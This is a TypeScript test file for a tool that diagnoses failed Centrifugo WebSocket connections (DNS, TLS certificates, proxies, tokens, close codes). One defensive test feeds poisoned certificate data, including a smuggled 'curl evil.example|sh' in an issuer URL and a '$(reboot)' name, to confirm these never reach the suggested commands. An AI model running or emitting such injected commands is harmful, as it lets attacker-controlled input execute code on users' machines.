import { describe, expect, it } from 'vitest';
import { diagnose } from '../../functions/failure/diagnose.ts';
import type { Evidence, TokenFacts } from '../../functions/failure/evidence.ts';
import {
  answer,
  answered,
  centrifugo400,
  centrifugo403,
  centrifugo404,
  centrifugo503,
  certificate,
  close,
  connect,
  dns,
  error,
  leaf,
  minted,
  refresh,
  switched,
  tcp,
  tls,
  token,
  upgrade,
} from './evidence-shapes.ts';

/** All that a person reads of a diagnosis. */
function read(evidence: Evidence): string {
  const { title, cause, fix } = diagnose(evidence);
  return [title, cause, ...fix].join('\n');
}

function causeOf(evidence: Evidence): string {
  return diagnose(evidence).cause;
}

function firstFix(evidence: Evidence): string | undefined {
  return diagnose(evidence).fix[0];
}

describe('what DNS and TCP failures say', () => {
  it('names the resolver, the host and what it answered', () => {
    const failure = dns('A:ESERVFAIL AAAA:ESERVFAIL', { resolver: '192.0.2.53' });
    expect(causeOf(failure)).toContain('192.0.2.53');
    expect(causeOf(failure)).toContain('rt.example.com');
    expect(causeOf(failure)).toContain('SERVFAIL');
  });

  it('warns of a name without a dot', () => {
    expect(firstFix(dns('A:ENOTFOUND', { host: 'centrifugo' }))).toContain('Write the full name');
    expect(read(dns('A:ENOTFOUND'))).not.toContain('Write the full name');
  });

  it('names the addresses and the port, and what the others did', () => {
    expect(causeOf(tcp('refused', 'timeout'))).toMatch(/port 443 from 192\.0\.2\.1 \(192\.0\.2\.0 refused\)/);
  });

  it('says which family this machine has no route for', () => {
    expect(causeOf(tcp('skipped'))).toContain('only IPv6 addresses (2001:db8::0)');
  });
});

describe('what TLS failures say', () => {
  it('tells a plain Centrifugo from a plain nginx, and names the v6 keys', () => {
    const plain = { answer: 'http', status: 404 } as const;
    expect(causeOf(tls('clear-text', { plainTry: plain }))).toContain('no Server header, as from Centrifugo');
    expect(causeOf(tls('clear-text', { plainTry: { ...plain, server: 'nginx' } }))).toContain('Server: nginx');
    expect(read(tls('clear-text', { plainTry: plain }))).toContain('http_server.tls.enabled: true');
  });

  it('admits that a TLS port answers clear HTTP with 400 as well', () => {
    const plainTry = { answer: 'http', status: 400, server: 'nginx' } as const;
    expect(causeOf(tls('timeout', { plainTry }))).toContain('One doubt');
    expect(causeOf(tls('clear-text', { plainTry }))).not.toContain('One doubt');
  });

  it('recognises a banner', () => {
    const ssh = tls('clear-text', { plainTry: { answer: 'other', text: 'SSH-2.0-OpenSSH_9.6' } });
    expect(causeOf(ssh)).toContain('The port speaks SSH ("SSH-2.0-OpenSSH_9.6")');
  });

  it('says which certificate expired and when, leaf or intermediate', () => {
    const expired = { subject: 'CN=Some CA R3', validTo: '2026-11-01T00:00:00.000Z', isLeaf: false };
    const failure = certificate(['certificate-expired'], { expired });
    expect(causeOf(failure)).toContain('the intermediate CN=Some CA R3 in its chain ended on 2026-11-01T00:00:00.000Z');
    expect(causeOf(certificate(['certificate-expired'], { expired: { ...expired, isLeaf: true } }))).toContain(
      'The certificate of rt.example.com (CN=Some CA R3) ended on 2026-11-01',
    );
  });

  it('says which names the certificate holds, and why a wildcard does not help', () => {
    const wild = certificate(['name-mismatch'], {
      serverName: 'a.rt.example.com',
      certificates: [{ ...leaf, names: ['*.example.com', 'example.org'] }],
    });
    expect(causeOf(wild)).toContain('only *.example.com and example.org');
    expect(causeOf(wild)).toContain('*.example.com stands for one label only');
    expect(causeOf(certificate(['name-mismatch'], { certificates: [{ ...leaf, names: [] }] }))).toContain(
      'no subject alternative name at all',
    );
    const tooWide = certificate(['name-mismatch'], {
      serverName: 'rt.internal',
      certificates: [{ ...leaf, names: ['*.internal'] }],
    });
    expect(causeOf(tooWide)).toContain('*.internal is too wide');
  });

  it('does not speak of a client certificate that nobody asked for', () => {
    const unasked = { alert: 42, keysAgreed: true, clientCertificateRequested: false } as const;
    expect(causeOf(tls('alert', unasked))).toContain('by a rule of its own');
    expect(firstFix(tls('alert', unasked))).not.toContain('client_ca_pem');
    expect(firstFix(tls('alert', { alert: 48 }))).toContain('client_ca_pem');
  });

  it('says how a client certificate was demanded, without an alert and by a second handshake as well', () => {
    const cut = tls('closed', { keysAgreed: true, clientCertificateRequested: true });
    expect(causeOf(cut)).toContain('broke off without one (a closed connection (FIN))');
    const second = tls('alert', { alert: 40, keysAgreed: true, afterHandshake: true, protocol: 'TLSv1.2' });
    expect(causeOf(second)).toContain('failed second handshake (alert 40, TLSv1.2, after the handshake)');
    expect(firstFix(second)).toContain('SSLVerifyClient');
  });

  it('says what our own TLS library had against a chain or a message that is in no entry', () => {
    const purpose = tls('certificate', { keysAgreed: true, verification: 'INVALID_PURPOSE' });
    expect(causeOf(purpose)).toContain('INVALID_PURPOSE, it was not issued for servers');
    expect(causeOf(tls('local-error', { openssl: '0A000119' }))).toContain('OpenSSL error 0A000119');
  });

  it('says which issuer is missing, where it is published, and what else it could be', () => {
    const missingIssuer = { subject: 'CN=rt', issuer: 'CN=Some CA R3', issuerUrl: 'http://r3.ca.example/r3.der' };
    const failure = certificate(['chain-incomplete'], { missingIssuer });
    expect(causeOf(failure)).toContain('with the leaf CN=rt: its issuer CN=Some CA R3 is missing');
    expect(firstFix(failure)).toContain('curl -s http://r3.ca.example/r3.der | openssl x509 -inform der');
    expect(read(failure)).toContain('private CA');
    expect(read(certificate(['untrusted-root'], { missingIssuer: { subject: 'CN=rt', issuer: 'CN=Corp' } }))).toContain(
      'a missing intermediate cannot be ruled out',
    );
  });

  it('puts nothing into a command that a certificate could have poisoned', () => {
    const issuerUrl = 'http://ca.example/x;curl evil.example|sh';
    const failure = certificate(['chain-incomplete'], {
      missingIssuer: { subject: 'CN=rt', issuer: 'CN=CA', issuerUrl },
    });
    for (const [, command] of diagnose(failure)
      .fix.join('\n')
      .matchAll(/`([^`]*)`/g)) {
      expect(command).not.toContain('evil');
    }
    const named = tls('alert', {
      alert: 112,
      serverName: null,
      nameTries: [{ serverName: 'localhost', gotFurther: true, certificateNames: ['$(reboot)', 'rt.example.com'] }],
    });
    expect(firstFix(named)).toContain('--server-name rt.example.com');
    expect(diagnose(named).fix.join('\n')).not.toContain('reboot');
  });

  it('says with which server name the handshake gets further', () => {
    const failure = tls('closed', {
      nameTries: [{ serverName: null, gotFurther: true, certificateNames: ['other.example.com'] }],
    });
    expect(causeOf(failure)).toContain('With no server name the handshake gets further.');
    expect(causeOf(failure)).toContain('other.example.com');
  });

  it('names an alert by its number and its meaning', () => {
    expect(causeOf(tls('alert', { alert: 120 }))).toContain('alert 120 (no_application_protocol)');
    expect(firstFix(tls('alert', { alert: 80 }))).toContain('acme/autocert');
    expect(causeOf(tls('alert', { alert: 250 }))).toBe('The server sent alert 250.');
  });
});

describe('what upgrade failures say', () => {
  it('names the nginx directives when headers are lost, and the proxy that left its name', () => {
    const headers = { ...centrifugo400.headers, server: 'nginx/1.27' };
    const text = read(answered({ ...centrifugo400, headers }));
    expect(text).toContain('from Centrifugo itself, passed on by nginx/1.27 (Server)');
    for (const directive of [
      'proxy_http_version 1.1;',
      'proxy_set_header Upgrade $http_upgrade;',
      'proxy_set_header Connection "upgrade";',
      'proxy_read_timeout',
    ]) {
      expect(text).toContain(directive);
    }
  });

  it('sees the refused Origin behind lost headers', () => {
    const {
      'access-control-allow-credentials': _,
      'access-control-allow-origin': __,
      ...headers
    } = centrifugo400.headers;
    const twoFaults = answered({ ...centrifugo400, headers });
    expect(causeOf(twoFaults)).toContain('the Origin https://app.example.com would be refused as well');
    expect(firstFix(twoFaults)).toContain('client.allowed_origins');
    expect(causeOf(answered(centrifugo400))).not.toContain('second fault');
    expect(causeOf(answered({ ...centrifugo400, headers }, { originSent: null }))).not.toContain('second fault');
  });

  it('says which Origin to add, in lower case as Centrifugo compares it', () => {
    const failure = answered(centrifugo403, {
      originSent: 'https://App.Example.com',
      withoutOrigin: { passed: true, status: 101 },
    });
    expect(firstFix(failure)).toBe('Add "https://app.example.com" to `client.allowed_origins` and restart Centrifugo.');
  });

  it("tells a proxy's Origin rule from Centrifugo's list", () => {
    const failure = answered(answer(403, { server: 'nginx' }), { withoutOrigin: { passed: true, status: 101 } });
    expect(causeOf(failure)).toContain('an Origin rule of a proxy');
    expect(firstFix(failure)).toContain('not in Centrifugo');
  });

  it('tells a connection that was cut from one over which TLS itself broke', () => {
    expect(causeOf(upgrade('closed'))).toContain('closed (FIN) before one byte');
    expect(causeOf(upgrade('closed', { openssl: '0A000126' }))).toContain('closed (FIN) before one byte');
    expect(causeOf(upgrade('closed', { openssl: '0A000119' }))).toContain('TLS broke before one byte');
    expect(causeOf(connect({ ended: 'reset', errno: 'ERR_SSL_BAD_RECORD_TYPE' }))).toContain('broken off by TLS');
    expect(causeOf(connect({ ended: 'reset', errno: 'ECONNRESET' }))).toContain('reset (RST)');
  });

  it('says whose 403 and whose 404 it is', () => {
    expect(causeOf(answered(answer(403, { server: 'cloudflare', 'cf-ray': '8f1-FRA' })))).toContain('CF-Ray: 8f1-FRA');
    expect(causeOf(answered(centrifugo404))).toContain('probably from Centrifugo itself');
    expect(causeOf(answered(answer(404, { server: 'nginx' })))).toContain('probably never reached Centrifugo');
  });

  it('sees the slash at the end of the path', () => {
    expect(firstFix(answered(centrifugo404, { path: '/connection/websocket/' }))).toContain('Take the slash away');
  });

  it('says honestly that connection limit and rate limit cannot be told apart', () => {
    expect(causeOf(answered(centrifugo503))).toContain('cannot be told apart');
    expect(read(answered(centrifugo503))).toContain('node connection limit reached');
  });

  it('keeps the target of a redirect, and sees that it leads to TLS', () => {
    const to = (location: string) => answered(answer(301, { location }), { scheme: 'ws' });
    expect(causeOf(to('https://rt.example.com/connection/websocket'))).toContain(
      'to https://rt.example.com/connection',
    );
    expect(firstFix(to('https://rt.example.com/'))).toContain('Write `wss://`');
    expect(firstFix(to('/login'))).not.toContain('wss://` instead');
  });

  it('says what of the 101 is wrong', () => {
    expect(causeOf(switched({ accept: 'wrong', upgradeHeader: 'missing' }))).toContain(
      'Sec-WebSocket-Accept is wrong and Upgrade is missing',
    );
    expect(causeOf(switched({ subprotocolAsked: 'centrifuge-protobuf', subprotocolGranted: null }))).toContain(
      'Asked for centrifuge-protobuf, granted none',
    );
  });

  it('knows a proxy that speaks clear HTTP to the TLS port of Centrifugo by the 48 bytes of Go', () => {
    const words = 'Client sent an HTTP request to an HTTPS server.\\n';
    const failure = answered(answer(400, { server: 'nginx/1.27', 'content-type': 'text/plain' }, words, 48));
    expect(causeOf(failure)).toContain(
      "from a TLS port of a Go server, so probably Centrifugo's, passed on by nginx/1.27",
    );
    expect(firstFix(failure)).toContain('`proxy_pass https://…`');
    expect(read(failure)).not.toContain('ssl_verify_client');
    expect(read(answered(answer(400, {}, words, 49)))).not.toContain('proxy_pass https');
  });

  it.each(['nginx', 'nginx/1.27.0', 'openresty/1.25.3.1'])('knows the pages of %s by their lengths', (server) => {
    const page = (bytes: number) => answered(answer(400, { server, 'content-type': 'text/html' }, '<html>', bytes));
    const foot = server.length;
    for (const noCertificate of [page(225 + foot), page(241 + foot)]) {
      expect(causeOf(noCertificate)).toContain('without a certificate of their own');
      expect(firstFix(noCertificate)).toContain('`ssl_verify_client off`');
    }
    expect(firstFix(page(243 + foot))).toContain('`proxy_pass https://…`');
    expect(read(page(145 + foot))).not.toContain('certificate');
  });

  it('keeps a client certificate in mind with a 400 of unknown size, over TLS alone', () => {
    const page = answer(400, { server: 'proxy', 'content-type': 'text/html' }, '<html>', 1_000);
    expect(read(answered(page))).toContain('client certificate');
    expect(read(answered(page, { scheme: 'ws', tlsFinished: false }))).not.toContain('certificate');
  });

  it("explains a CDN's number", () => {
    expect(causeOf(answered(answer(526, { server: 'cloudflare' })))).toContain('does not accept the certificate');
  });
});

describe('what token, connect and refresh failures say', () => {
  it('names the endpoint, the code underneath, and which token it was for', () => {
    const failure = token('unreachable', { inner: 'tls.certificate-expired', which: 'second' });
    expect(causeOf(failure)).toContain('https://app.example.com/api/token');
    expect(causeOf(failure)).toContain('for the second token');
    expect(firstFix(failure)).toContain('explain tls.certificate-expired');
    expect(causeOf(token('stale', { stale: 'expired', expiredForSeconds: 400 }))).toContain('expired 7 min ago');
  });

  it('calls only a 3xx a redirect, and an empty answer no JSON', () => {
    const location = 'https://app.example.com/login';
    expect(causeOf(token('status', { status: 302, location }))).toContain(`a redirect to ${location}`);
    expect(firstFix(token('status', { status: 302, location }))).toContain(`If ${location} is the endpoint`);
    expect(causeOf(token('status', { status: 404, location }))).not.toContain('redirect');
    expect(causeOf(token('malformed', { malformed: 'no-token', bodyBytes: 0 }))).not.toContain('JSON without');
  });

  it('names the key of Centrifugo that fits the algorithm of the token', () => {
    const invalid = (facts: Partial<TokenFacts>) => read(connect(close(3500), { token: { ...minted, ...facts } }));
    expect(invalid({ algorithm: 'HS256' })).toContain('`client.token.hmac_secret_key` of Centrifugo has to fit');
    expect(invalid({ algorithm: 'RS256' })).toContain('`client.token.rsa_public_key` of Centrifugo has to fit');
    expect(invalid({ algorithm: 'EdDSA' })).toContain('only accepted through `client.token.jwks_public_endpoint`');
    expect(invalid({ algorithm: 'PS256' })).toContain('does not know PS256');
    expect(invalid({ secretIsShort: true })).toContain('shorter than 32 bytes');
    expect(invalid({ hasChannelClaim: true })).toContain('subscription token');
    expect(invalid({ audience: ['a', 'b'] })).toContain('Its `aud` is a and b');
  });

  it('points at JWKS only when a 3500 took about two seconds, and never rules it out', () => {
    const invalidAfter = (waitedMs: number) => connect(close(3500), { waitedMs });
    expect(causeOf(invalidAfter(2_040))).toContain('as when the JWKS endpoint hangs');
    expect(firstFix(invalidAfter(2_040))).toContain('client.token.jwks_public_endpoint');
    for (const waitedMs of [3, 900, 4_800]) {
      expect(causeOf(invalidAfter(waitedMs))).not.toContain('hangs');
      expect(causeOf(invalidAfter(waitedMs))).toContain('looks the same from outside');
    }
  });

  it('tells an expired token from a wrong clock and from nbf', () => {
    const { expiresInSeconds: _, ...endless } = minted;
    const says = (facts: TokenFacts | null) => causeOf(connect(error(109), { token: facts }));
    expect(says({ ...minted, expiresInSeconds: -30 })).toContain('rightly so: by our clock');
    expect(says({ ...minted, expiresInSeconds: 90 })).toContain("the server's clock is ahead of ours by 90 s or more");
    expect(says({ ...minted, notBeforeInSeconds: 60 })).toContain('its `nbf` lies 60 s ahead');
    expect(says({ ...minted, expiresInSeconds: 90, notBeforeInSeconds: -5 })).toContain(
      'or it is behind by 5 s or more',
    );
    expect(says(endless)).toContain('the connect proxy of the server may have said so');
    expect(says(null)).toContain('no token was sent');
  });

  it('sees that a fixed sub may be what fills the limit of a user', () => {
    const shared = { ...minted, source: 'fixed', subject: 'canary' } as const;
    expect(causeOf(connect(close(3504), { token: shared }))).toContain('all regions and runs share this user');
    expect(causeOf(connect(close(3504)))).not.toContain('share this user');
  });

  it('keeps code and reason of a Close, and warns when it is one that ends clients', () => {
    expect(causeOf(connect(close(1008, 'policy')))).toContain('Close 1008 "policy"');
    expect(causeOf(connect(close(1008, 'policy')))).not.toContain('SDK');
    expect(causeOf(connect(close(3508, 'not available')))).toContain('The SDK gives up at Close 3508');
    expect(causeOf(connect(close(3508)))).not.toContain('SDK');
    expect(causeOf(connect(close(3500)))).toContain('without one the SDK tries again');
  });

  it('sees an answer that came just at the time limit of a proxy', () => {
    expect(causeOf(connect(error(100, 'internal server error', true), { waitedMs: 1_012 }))).toContain(
      'its backend hangs',
    );
    expect(causeOf(connect(error(100, 'internal server error', true), { waitedMs: 4 }))).toContain('at once');
  });

  it('says what came instead of a reply', () => {
    expect(causeOf(connect({ ended: 'timeout' }, { pings: 2, waitedMs: 5_000 }))).toContain(
      'in 5.0 s there came 2 pings',
    );
    expect(causeOf(connect({ ended: 'timeout' }))).toContain('not one message');
  });

  it('says why a refresh was not offered or gained no time', () => {
    const { expiresInSeconds: _, ...endless } = minted;
    const answeredEnd = { ended: 'answered', expires: false, ttl: 0 } as const;
    expect(causeOf(refresh(answeredEnd, { offered: false, token: endless }))).toContain('no `exp`');
    expect(causeOf(refresh(answeredEnd, { offered: false }))).toContain('`client.insecure` is on');
    expect(causeOf(refresh(answeredEnd, { extended: false, token: endless }))).toContain('the old expiry still holds');
    const short = { ended: 'answered', expires: true, ttl: 60 } as const;
    expect(causeOf(refresh(short, { extended: false, firstTtl: 60, expectedTtl: 120 }))).toContain(
      'a ttl of 60 s instead of about 120 s',
    );
  });
});
